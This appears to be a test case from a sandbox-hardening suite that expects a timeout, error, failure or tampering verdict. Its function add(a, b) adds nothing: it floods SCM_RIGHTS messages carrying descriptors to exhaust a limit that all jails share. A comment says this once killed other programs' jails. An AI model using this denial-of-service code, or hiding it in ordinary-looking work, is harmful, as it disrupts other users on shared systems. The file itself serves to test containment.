# expect: timeout, error, fail, tampered
# Descriptors in flight count against the user that all jails share: a flood of them ended other programs' jails.
import array, os, socket
def add(a, b):
    for number in range(3, 10):
        for source in range(3, 32):
            try: os.dup2(source, number)
            except OSError: continue
            try: line = socket.socket(fileno=number)
            except OSError: continue
            try:
                for _ in range(1000):
                    line.sendmsg([b"r"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0] * 250))])
                return 0
            except OSError: pass
            finally: line.detach()
    return None
